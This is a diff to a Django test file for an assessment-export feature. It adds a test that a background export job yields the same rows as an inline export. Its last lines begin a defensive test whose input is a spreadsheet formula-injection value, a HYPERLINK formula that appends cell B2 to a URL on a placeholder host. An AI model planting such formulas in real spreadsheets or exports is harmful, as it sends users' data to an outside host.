@@ -2,15 +2,18 @@
 
 from io import BytesIO
 
+from django.test import override_settings
 from django.urls import reverse
 from django.utils.http import urlencode
 from django.utils.translation import gettext as _
 from openpyxl import load_workbook
 
 from smedx.assessments import standing
+from smedx.assessments.forms.officer import filtered_assessments
 from smedx.assessments.levels import level_label
 from smedx.assessments.loader import load_bundled
 from smedx.assessments.models import Assessment
+from smedx.core.models import ExportJob
 from smedx.testing import PersonaTestCase, make_enterprise
 from smedx.testing.answer_sets import best, middling, scenes, worst
 from smedx.testing.assessments import make_assessment
@@ -242,6 +245,18 @@ class ExportTests(OfficerListTestCase):
         self.assertEqual(t0["kind"], Assessment.Kind.SELF.label)
         draft = by_period[("测试企业乙", "T0")]
         self.assertEqual((draft["total"], draft["level"], draft["B"]), (None, None, None))
+
+    def test_it_exports_a_long_list_in_the_worker_with_the_same_rows(self):
+        at_once = self.rows(self.export(self.city, period="T0"))
+        with override_settings(EXPORT_INLINE_ROWS=1):
+            response = self.export(self.city, period="T0")
+        job = ExportJob.objects.latest("id")
+        self.assertRedirects(response, reverse("core:export_detail", args=[job.pk]))
+        self.assertEqual((job.status, job.in_background, job.kind), ("done", True, "assessments.assessment"))
+        written = self.rows(self.client.get(reverse("core:export_download", args=[job.pk])))
+        self.assertEqual(written, at_once)
+        _form, qs = filtered_assessments(self.city, {"period": "T0"})
+        self.assertEqual(len(written) - 1, qs.count())
 
     def test_it_exports_a_name_that_looks_like_a_formula_as_text(self):
         name = '=HYPERLINK("http://x/?"&B2,"点击")'
